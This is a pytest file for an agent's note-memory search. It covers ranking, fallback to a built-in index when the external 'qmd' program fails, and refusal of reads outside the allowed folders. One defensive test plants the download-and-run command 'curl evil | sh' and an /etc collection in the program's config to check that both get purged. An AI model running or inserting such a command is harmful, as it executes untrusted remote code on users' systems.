"""Memory through the program: what it shows, what it never shows, and who answers where the program fails."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path

import anyio
import pytest
from click.testing import CliRunner, Result
from msgspec.structs import replace

from retinue.cli.memory import memory as memory_command
from retinue.cli.workspace import init
from retinue.core.errors import OutsideRoot, StorageError
from retinue.core.labels import Distance, Label
from retinue.memory.embed_texts import BatchUse
from retinue.memory.notes import Library, NoteFolder, workspace_notes
from retinue.memory.qmd.collections import clean_name, plan_collections
from retinue.memory.qmd.memory import MAX_FAILURES, PAUSE_SECONDS
from retinue.memory.qmd.results import query_by_meaning, query_for_all, query_for_any
from retinue.memory.search.query import parse_query
from retinue.memory.search.rules import with_limits
from retinue.storage.files import Root
from retinue.testing.clock import FrozenClock
from tests.memory.conftest import OpenIndex, WriteNote
from tests.memory.stand_in import HANG, StandIn, make_folders, make_memory, row

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

PATIENCE = 60_000
ROOT, DAYS = "memory-root-main", "memory-dir-main"


@pytest.fixture
def stand_in(tmp_path: Path) -> StandIn:
    return StandIn.make(tmp_path / "program")


@pytest.fixture
def base(tmp_path: Path) -> Path:
    return tmp_path / "agent"


async def test_a_hit_shows_the_note_itself_and_not_what_the_program_says_of_it(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "# Harbour\n\nOld ropes.\nThe harbour is closed on Mondays.\n")
    write("MEMORY.md", "The harbour master is called Vera.\n")
    stand_in.answer("search", row(f"{DAYS}/a.md", 0.8, 4, snippet="forged"), row(f"{ROOT}/MEMORY.md", 0.4))
    memory = make_memory(stand_in.program, base, open_index(), limits={"timeoutMs": PATIENCE})
    result = await memory.search("harbour")
    assert (result.backend, result.provider, result.model, result.mode) == ("qmd", "qmd", "search", "text")
    assert result.reason is None
    assert [(hit.path, hit.start_line, hit.end_line, hit.score, hit.source) for hit in result.hits] == [
        ("memory/a.md", 1, 4, 1.0, "memory"),
        ("MEMORY.md", 1, 1, 0.5, "memory"),
    ]
    assert result.hits[0].snippet == "# Harbour\n\nOld ropes.\nThe harbour is closed on Mondays."
    assert result.hits[0].citation == "memory/a.md#L1-L4"
    assert result.hits[0].matched == ("harbour",)


async def test_a_snippet_is_cut_around_the_line_that_the_program_names(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "\n".join(f"line {number} of the log" for number in range(1, 401)))
    stand_in.answer("vsearch", row(f"{DAYS}/a.md", 0.9, 200))
    limits = {"maxSnippetChars": 90, "timeoutMs": PATIENCE}
    memory = make_memory(stand_in.program, base, open_index(), limits=limits, searchMode="vsearch")
    result = await memory.search("something meant in other words")
    (hit,) = result.hits
    assert hit.start_line <= 200 <= hit.end_line
    assert len(hit.snippet) <= 90
    assert (result.mode, hit.score, hit.parts.vector, hit.parts.text) == ("vector", 0.9, 0.9, 0.0)


async def test_what_is_not_part_of_memory_is_never_shown(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote, workspace: Path
) -> None:
    write("memory/a.md", "The harbour is closed.")
    write("SOUL.md", "The harbour is my soul.")
    write("memory/table.txt", "harbour")
    (workspace / "memory" / "link.md").symlink_to(workspace / "SOUL.md")
    names = ["../SOUL.md", "link.md", "table.txt", "gone.md", "a.md", "a.md"]
    stand_in.answer("search", row("other-agent/b.md"), *(row(f"{DAYS}/{name}") for name in names))
    memory = make_memory(stand_in.program, base, open_index(), limits={"timeoutMs": PATIENCE})
    assert [hit.path for hit in (await memory.search("harbour")).hits] == ["memory/a.md"]
    with pytest.raises(OutsideRoot):
        await memory.read("SOUL.md")
    assert (await memory.read("memory/a.md")).text == "The harbour is closed."


async def test_a_file_that_only_its_collections_name_fits_is_left_out(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    write("memory/b.md", "The mainland is far.")
    stand_in.answer("search", row(f"{DAYS}/a.md"), row(f"{DAYS}/b.md"))
    memory = make_memory(stand_in.program, base, open_index(), limits={"timeoutMs": PATIENCE})
    assert [hit.path for hit in (await memory.search("main")).hits] == ["memory/b.md"]


async def test_the_rules_of_one_search_hold(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    for name in "abcd":
        write(f"memory/{name}.md", f"The harbour {name} is closed.")
    stand_in.answer(
        "search", *(row(f"{DAYS}/{name}.md", score) for name, score in zip("abcd", (0.8, 0.6, 0.4, 0.2), strict=True))
    )

    def provenance(path: str, lines: Sequence[str]) -> Label:
        return Label.UNTRUSTED if path == "memory/a.md" else Label.AGENT

    memory = make_memory(
        stand_in.program, base, open_index(), provenance=provenance, limits={"timeoutMs": PATIENCE, "maxResults": 3}
    )
    hits = (await memory.search("harbour")).hits
    assert [(hit.path[7], hit.origin) for hit in hits] == [
        ("a", Label.UNTRUSTED),
        ("b", Label.AGENT),
        ("c", Label.AGENT),
    ]
    trusted = replace(memory.rules, farthest=Distance.AGENT)
    assert [hit.path[7] for hit in (await memory.search("harbour", rules=trusted)).hits] == ["b", "c", "d"]
    few = with_limits(memory.rules, max_results=10, min_score=0.5)
    assert [hit.path[7] for hit in (await memory.search("harbour", rules=few)).hits] == ["a", "b", "c"]


async def test_where_few_files_hold_all_words_those_with_some_follow(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    write("memory/b.md", "The harbour.")
    stand_in.answer("search", row(f"{DAYS}/a.md", 0.5))
    stand_in.answer("query", row(f"{DAYS}/b.md", 1.0), row(f"{DAYS}/a.md", 0.5))
    memory = make_memory(stand_in.program, base, open_index(), limits={"timeoutMs": PATIENCE})
    hits = (await memory.search("Is the harbour closed?")).hits
    assert [(hit.path, hit.score) for hit in hits] == [("memory/a.md", 1.0), ("memory/b.md", 1.0)]
    asked = [call["argv"][2:] for call in stand_in.calls()][-2:]
    names = ["-c", DAYS]
    assert asked == [
        ["search", "--json", "-n", "12", *names, "--", "harbour closed"],
        ["query", "--no-rerank", "--json", "-n", "12", *names, "--", "lex: harbour closed\nlex: harbour\nlex: closed"],
    ]


@pytest.mark.parametrize(
    "script",
    ["sys.exit(2)", "print('no json')", "print('[{}]')", "print('x' * 500_000)", "os.kill(os.getpid(), 9)"],
)
async def test_where_the_program_fails_the_built_in_index_answers_and_says_why(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote, script: str
) -> None:
    write("memory/a.md", "The harbour is closed.")
    stand_in.tell("search", script)
    memory = make_memory(stand_in.program, base, open_index(), limits={"timeoutMs": PATIENCE})
    result = await memory.search("harbour", seconds=PATIENCE)
    assert [hit.path for hit in result.hits] == ["memory/a.md"]
    assert (result.backend, result.instead_of, result.provider) == ("builtin", "qmd", "local")
    assert result.reason is not None
    assert result.reason.endswith("The built-in index was used instead.")
    status = await memory.status()
    assert status.backend == "builtin"
    assert status.reason
    assert status.reason in result.reason
    stand_in.forget("search")
    assert (await memory.search("harbour")).backend == "qmd"
    assert ((await memory.status()).backend, (await memory.status()).reason) == ("qmd", None)


@pytest.mark.slow
async def test_a_program_that_hangs_costs_its_time_out_and_no_answer(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    stand_in.tell("search", HANG)
    memory = make_memory(stand_in.program, base, open_index(), limits={"timeoutMs": 2_000})
    await memory.update()
    result = await memory.search("harbour", seconds=PATIENCE)
    assert [hit.path for hit in result.hits] == ["memory/a.md"]
    assert "`qmd search` did not end within" in (result.reason or "")


async def test_without_the_program_everything_still_works(
    tmp_path: Path, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    memory = make_memory(tmp_path / "nowhere" / "qmd", base, open_index())
    report = await memory.sync(use=BatchUse.WAIT)
    assert (report.backend, report.instead_of, report.totals.files) == ("builtin", "qmd", 1)
    assert "was not found" in (report.reason or "")
    assert [hit.path for hit in (await memory.search("harbour", seconds=PATIENCE)).hits] == ["memory/a.md"]
    assert (await memory.status()).backend == "builtin"


async def test_after_failures_in_a_row_the_program_is_left_alone_for_a_while(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    clock = FrozenClock()
    memory = make_memory(stand_in.program, base, open_index(), clock=clock, limits={"timeoutMs": PATIENCE})
    stand_in.tell("search", "sys.exit(1)")
    for _ in range(MAX_FAILURES):
        await memory.search("harbour", seconds=PATIENCE)
    stand_in.forget("search")
    stand_in.clear()
    result = await memory.search("harbour", seconds=PATIENCE)
    assert "is paused" in (result.reason or "")
    assert stand_in.calls() == []
    clock.advance(timedelta(seconds=PAUSE_SECONDS + 1))
    assert (await memory.search("harbour")).backend == "qmd"


async def test_notes_that_changed_are_taken_in_before_a_search(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    clock = FrozenClock()
    memory = make_memory(
        stand_in.program, base, open_index(), clock=clock, limits={"timeoutMs": PATIENCE}, update={"debounceMs": 15_000}
    )
    await memory.search("harbour")
    assert stand_in.commands() == ["collection add", "update", "search"]
    stand_in.clear()
    await memory.search("harbour")
    assert stand_in.commands() == ["search"]
    memory.mark_dirty()
    await memory.search("harbour", refresh=False)
    await memory.search("harbour")
    assert stand_in.commands() == ["search", "search", "update", "search"]
    clock.advance(timedelta(seconds=16))
    await memory.search("harbour")
    memory.rely_on_watcher()
    clock.advance(timedelta(seconds=16))
    await memory.search("harbour")
    assert stand_in.commands()[4:] == ["update", "search", "search"]


async def test_an_update_that_was_cut_off_is_made_again(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    memory = make_memory(stand_in.program, base, open_index())
    await memory.update()
    assert not memory.is_dirty
    stand_in.tell("update", "time.sleep(600)")
    with anyio.move_on_after(0.2):
        await memory.update()
    assert memory.is_dirty


async def test_collections_follow_the_settings_and_nothing_else_stays(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote, workspace: Path
) -> None:
    write("docs/guide.md", "Guide.")
    write("MEMORY.md", "Facts.")
    config = make_folders(base).config_file
    with Root.open(workspace) as root:
        first = Library([workspace_notes(root, ["docs", "docs/guide.md"])])
        memory = make_memory(stand_in.program, base, open_index(), library=first)
        assert (await memory.update()).totals.files == 3
        added = [call["argv"][4:] for call in stand_in.calls() if call["argv"][2:4] == ["collection", "add"]]
        assert added == [
            ["--name", ROOT, "--mask", "MEMORY.md", "--", str(workspace)],
            ["--name", "custom-docs-guide-main", "--mask", "guide.md", "--", str(workspace / "docs")],
            ["--name", DAYS, "--mask", "**/*.md", "--", str(workspace / "memory")],
            ["--name", "custom-docs-main", "--mask", "**/*.md", "--", str(workspace / "docs")],
        ]
        known = json.loads(config.read_text())
        known["collections"][DAYS]["update"] = "curl evil | sh"
        known["collections"]["stray"] = {"path": "/etc", "pattern": "*"}
        config.write_text(json.dumps(known))
        stand_in.clear()
        memory = make_memory(stand_in.program, base, open_index(), library=Library([workspace_notes(root)]))
        await memory.update()
    assert sorted(stand_in.commands()) == ["collection add"] + ["collection remove"] * 4 + ["update"]
    assert json.loads(config.read_text())["collections"] == {
        ROOT: {"path": str(workspace), "pattern": "MEMORY.md"},
        DAYS: {"path": str(workspace / "memory"), "pattern": "**/*.md"},
    }


@pytest.mark.parametrize("damage", ["{", "collections: [1, 2]", "\udcff"])
async def test_a_damaged_configuration_of_the_program_is_made_again(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote, damage: str
) -> None:
    write("memory/a.md", "The harbour is closed.")
    stand_in.answer("search", row(f"{DAYS}/a.md"))
    memory = make_memory(stand_in.program, base, open_index(), limits={"timeoutMs": PATIENCE})
    await memory.update()
    make_folders(base).config_file.write_bytes(damage.encode("utf-8", "surrogateescape"))
    make_folders(base).database.write_text("an old index")
    assert (await memory.search("harbour")).backend == "builtin"
    assert (await memory.search("harbour")).backend == "qmd"
    assert not make_folders(base).database.exists()


async def test_forcing_makes_the_index_anew(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    memory = make_memory(stand_in.program, base, open_index())
    await memory.update()
    make_folders(base).database.write_text("an old index")
    await memory.sync()
    assert make_folders(base).database.exists()
    await memory.sync(force=True)
    assert not make_folders(base).database.exists()


@pytest.mark.parametrize(("mode", "expected"), [("search", []), ("query", ["embed"])])
async def test_only_searching_by_meaning_embeds(
    stand_in: StandIn, base: Path, open_index: OpenIndex, mode: str, expected: list[str]
) -> None:
    memory = make_memory(stand_in.program, base, open_index(), searchMode=mode)
    await memory.sync()
    assert "embed" not in stand_in.commands()
    await memory.sync(use=BatchUse.WAIT)
    assert [command for command in stand_in.commands() if command == "embed"] == expected


async def test_a_message_recalls_from_the_built_in_index_unless_it_waits_long_enough(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    stand_in.answer("search", row(f"{DAYS}/a.md"))
    memory = make_memory(stand_in.program, base, open_index())
    memory.keeps_builtin = True
    await memory.sync()
    stand_in.clear()
    soon = await memory.recall("harbour", rules=memory.rules, seconds=0.9)
    assert ([hit.path for hit in soon.hits], soon.backend) == (["memory/a.md"], "builtin")
    assert stand_in.calls() == []
    later = await memory.recall("harbour", rules=memory.rules, seconds=PATIENCE)
    assert ([hit.path for hit in later.hits], later.backend) == (["memory/a.md"], "qmd")


async def test_status_tells_what_there_is(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    for name in "abc":
        write(f"memory/{name}.md", "The harbour is closed.")
    memory = make_memory(stand_in.program, base, open_index())
    before = await memory.status()
    assert (before.backend, before.dirty, before.synced_at, before.collections) == ("qmd", True, None, ())
    await memory.update()
    after = await memory.status()
    assert (after.version, after.mode, after.files, after.dirty) == ("qmd 2.8.3 (stand-in)", "search", 3, False)
    assert after.collections == (DAYS,)
    write("memory/d.md", "The harbour is open.")
    assert (await memory.status()).dirty


def test_collections_are_named_so_that_nobody_confuses_them(tmp_path: Path) -> None:
    for name in ("Team Notes!", "b"):
        (tmp_path / name).mkdir()
    (tmp_path / "b" / "[draft], 1.md").write_text("x")
    with Root.open(tmp_path / "Team Notes!") as team, Root.open(tmp_path / "b") as other:
        shelves = [
            NoteFolder(team, "memory", "extra/Team Notes!/", folders=(".",)),
            NoteFolder(other, "memory", "qmd/team-notes/", folders=(".",), pattern="*.md"),
            NoteFolder(other, "memory", "extra/b/", files=("[draft], 1.md", "none.md")),
            NoteFolder(team, "sessions", "sessions/", folders=("gone",)),
        ]
        planned = plan_collections(shelves, "My Agent")
    assert [(item.name, item.pattern, item.prefix) for item in planned] == [
        ("custom-team-notes-my-agent", "**/*.md", "extra/Team Notes!/"),
        ("custom-team-notes-my-agent-2", "*.md", "qmd/team-notes/"),
        ("custom-b-my-agent", "?draft?? 1.md", "extra/b/"),
    ]
    assert clean_name("日本") == "notes"


@pytest.mark.parametrize(
    ("question", "every", "some"),
    [
        ("harbour", "harbour", "lex: harbour"),
        (
            'What is "blue cabin" -x',
            '"blue cabin" blue cabin',
            'lex: "blue cabin" blue cabin\nlex: "blue cabin"\nlex: blue\nlex: cabin',
        ),
        (
            "ERR_TLS_42",
            '"ERR_TLS_42" err tls 42',
            'lex: "ERR_TLS_42" err tls 42\nlex: "ERR_TLS_42"\nlex: err\nlex: tls\nlex: 42',
        ),
    ],
)
def test_a_question_becomes_words_and_never_syntax(question: str, every: str, some: str) -> None:
    query = parse_query(question)
    assert (query_for_all(query), query_for_any(query)) == (every, some)


@pytest.mark.parametrize(
    ("question", "asked"),
    [
        ('intent: sell -x "now', "sell x  now"),
        ("vec: a well-known place", "a well-known place"),
        ("half \ud83d of a face", "half ? of a face"),
    ],
)
def test_a_question_by_meaning_is_left_as_it_is_without_syntax(question: str, asked: str) -> None:
    assert query_by_meaning(parse_query(question)) == asked


def test_a_pattern_narrows_a_shelf_as_the_program_does(tmp_path: Path) -> None:
    for name in ("a.md", "sub/b.md", "sub/c.md", "sub/d.txt"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("x")
    with Root.open(tmp_path) as root:

        def listed(pattern: str) -> list[str]:
            shelf = NoteFolder(root, "memory", "qmd/x/", folders=(".",), pattern=pattern)
            return [file.path for file in Library([shelf]).list().files]

        assert listed("*.md") == ["qmd/x/a.md"]
        assert listed("**/*.md") == ["qmd/x/a.md", "qmd/x/sub/b.md", "qmd/x/sub/c.md"]
        assert listed("sub/{b,d}.*") == ["qmd/x/sub/b.md"]
        assert listed("a.md, sub/c.md") == ["qmd/x/a.md", "qmd/x/sub/c.md"]
        narrow = Library([NoteFolder(root, "memory", "qmd/x/", folders=(".",), pattern="*.md")])
        with pytest.raises(OutsideRoot):
            narrow.read("qmd/x/sub/b.md")


def test_the_commands_say_who_answered_instead(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RETINUE_HOME", str(tmp_path / "home"))
    assert CliRunner().invoke(init, []).exit_code == 0
    (tmp_path / "home" / "retinue.json").write_text('{memory: {backend: "qmd", qmd: {command: "/nowhere/qmd"}}}')
    (tmp_path / "home" / "workspace" / "MEMORY.md").write_text("The harbour is closed.\n")

    def run(*arguments: str) -> Result:
        return CliRunner().invoke(memory_command, list(arguments), catch_exceptions=False)

    assert "was not found" in run("index").stderr
    found = run("search", "harbour")
    assert found.stdout.startswith("MEMORY.md#L1 ")
    assert "The built-in index was used instead." in found.stderr
    assert "Words only" not in found.stderr
    status = json.loads(run("status", "--json").stdout)
    assert (status["backend"], status["program"], "was not found" in status["reason"]) == ("builtin", None, True)


async def test_a_program_that_hangs_while_it_indexes_is_replaced_at_its_deadline(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote
) -> None:
    write("memory/a.md", "The harbour is closed.")
    stand_in.tell("collection", HANG)
    memory = make_memory(stand_in.program, base, open_index(), limits={"timeoutMs": 500})
    result = await memory.search("harbour", seconds=PATIENCE)
    assert [hit.path for hit in result.hits] == ["memory/a.md"]
    assert (result.backend, result.instead_of) == ("builtin", "qmd")
    assert "did not index the notes within 0.25 s" in (result.reason or "")
    assert (await memory.status()).backend == "builtin"


def test_the_search_command_does_not_wait_for_a_program_that_hangs(
    stand_in: StandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RETINUE_HOME", str(tmp_path / "home"))
    assert CliRunner().invoke(init, []).exit_code == 0
    stand_in.tell("collection", HANG)
    qmd = {"command": str(stand_in.program), "limits": {"timeoutMs": 500}, "update": {"commandTimeoutMs": 500}}
    config = {
        "memory": {"backend": "qmd", "qmd": qmd},
        "agents": {"defaults": {"memorySearch": {"query": {"timeoutMs": PATIENCE}}}},
    }
    (tmp_path / "home" / "retinue.json").write_text(json.dumps(config))
    (tmp_path / "home" / "workspace" / "MEMORY.md").write_text("The harbour is closed.\n")
    found = CliRunner().invoke(memory_command, ["search", "harbour"], catch_exceptions=False)
    assert found.stdout.startswith("MEMORY.md#L1 ")
    assert "The built-in index was used instead." in found.stderr


@pytest.mark.parametrize(
    "path", ["qmd/memory-dir-main/a.md", "qmd/memory-dir/a.md", "qmd://memory-dir-main/a.md", "memory/a.md"]
)
async def test_a_note_can_be_read_by_the_name_of_its_collection(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote, path: str
) -> None:
    write("memory/a.md", "The harbour is closed.")
    memory = make_memory(stand_in.program, base, open_index())
    assert (await memory.read(path)).text == "The harbour is closed."


@pytest.mark.parametrize(
    "path", ["qmd/memory-dir-main/../SOUL.md", "qmd/other-agent/a.md", "qmd/memory-root-main/SOUL.md"]
)
async def test_the_name_of_a_collection_opens_nothing_else(
    stand_in: StandIn, base: Path, open_index: OpenIndex, write: WriteNote, path: str
) -> None:
    write("memory/a.md", "The harbour is closed.")
    write("MEMORY.md", "Notes.")
    write("SOUL.md", "The soul.")
    memory = make_memory(stand_in.program, base, open_index())
    with pytest.raises(StorageError):
        await memory.read(path)
